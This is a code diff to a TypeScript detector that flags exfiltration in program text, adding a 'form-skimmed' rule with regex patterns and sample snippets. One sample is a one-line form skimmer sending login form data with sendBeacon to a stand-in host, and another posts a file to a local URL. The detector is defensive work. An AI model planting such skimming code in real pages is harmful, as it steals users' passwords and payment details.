@@ -20,6 +20,14 @@ const outputSent = ruleOf(
   python("import requests\nrequests.post('http://127.0.0.1:8080/x', data=open('order.json').read())"), `${T}T1041`,
 );
 
+const formSkimmed = ruleOf(
+  'programs.form-skimmed', 'network_exfiltration', 'high', 'a page’s script that sends what is typed into a login or payment form to another host, without an answer', write('public/a.js', "document.querySelector('#login').addEventListener('submit', (e) => navigator.sendBeacon('https://c.example.net/p', new FormData(e.target)))\n"),
+  write('public/a.js', "navigator.sendBeacon('https://stats.example.net/v', JSON.stringify({ page: location.pathname }))\n"), `${T}T1056.003`,
+);
+/** What a person types, and a request whose answer nobody reads. */
+const TYPED = /(?:FormData|addEventListener\(\s*["'](?:submit|keydown|keypress|keyup|input|change|paste)["'])[^]{0,400}(?:sendBeacon|new Image\b|no-cors|\.src\s*=)/;
+const LOGIN_FORM = /password|passwd|login|signin|sign-in|card|cvv|cvc|iban|checkout|payment|keydown|keypress|keyup/i;
+
 const SINK = /file_get_contents\s*\(\s*["']https?:|\bsmtp(?:_ssl)?\s*\(|\bftp(?:_tls)?\s*\(|requests\.(?:post|put|get|request|patch)|urlopen|urlretrieve|urllib\d?\.request|http\.client|httpx\.|aiohttp|\bfetch\s*\(|axios|xmlhttprequest|sendbeacon|new image|\.src\s*=|\.sendall?\s*\(|smtplib|sendmail|curl_exec|curl_setopt|net::http|httparty|faraday|open-uri|lwp|http::tiny|websocket|ftplib|storbinary|paramiko|upload_file|put_object|superagent|\bgot\s*[.(]|needle|https?\.request|https?\.get|httpclient|webclient|http\.post|http\.newrequest|reqwest|ureq|resttemplate|okhttp|location\.(?:href|replace|assign)|window\.open|dns\.(?:resolve|lookup)|gethostbyname|os\.system|subprocess|child_process|exec\w*\(|mail\(/i;
 const SINK_LITERALS = ['file_get_contents(', 'smtp(', 'smtp_ssl(', 'ftp(','requests.', 'urlopen', 'urllib', 'http.client', 'httpx', 'aiohttp', 'fetch(', 'axios', 'xmlhttprequest', 'sendbeacon', 'new image', '.src', '.sendall', '.send(', 'smtplib', 'curl_exec', 'net::http', 'httparty', 'lwp', 'http::tiny', 'websocket', 'ftplib', 'upload_file', 'superagent', 'got(', 'got.post', 'https.request', 'http.request', 'https.get(', 'http.get(', 'httpclient', 'http.post', 'http.newrequest', 'reqwest', 'okhttp', 'location.', 'window.open', 'gethostbyname', 'dns.'];
 
@@ -34,7 +42,7 @@ const REACH = 700;
 /** Program text in which something secret and something that sends stand close together. */
 export const programExfiltration: Analyser = {
   name: 'platform.program-exfiltration',
-  rules: [environmentSent, secretFileSent, cookieSent, outputSent],
+  rules: [environmentSent, secretFileSent, cookieSent, formSkimmed, outputSent],
   roles: ['code', 'markup', 'shell'],
   literals: SINK_LITERALS,
   analyse(view) {
@@ -60,6 +68,8 @@ function judge(window: string): Found | undefined {
   if (environment) return { rule: environmentSent, at: environment.index, length: environment[0].length };
   const cookies = COOKIES.exec(window);
   if (cookies && /(?:fetch|sendbeacon|new image|\.src\s*=|xmlhttprequest|axios|location|\.open\(|websocket|post)/i.test(window)) return { rule: cookieSent, at: cookies.index, length: cookies[0].length };
+  const typed = TYPED.exec(window);
+  if (typed && LOGIN_FORM.test(window)) return { rule: formSkimmed, at: typed.index, length: typed[0].length };
   const file = [...window.matchAll(FILE_LITERAL)].slice(0, 16).find(([, path = '']) => isSecret(path));
   if (file) return { rule: secretFileSent, at: file.index, length: file[0].length };
   const output = OUTPUT.exec(window);
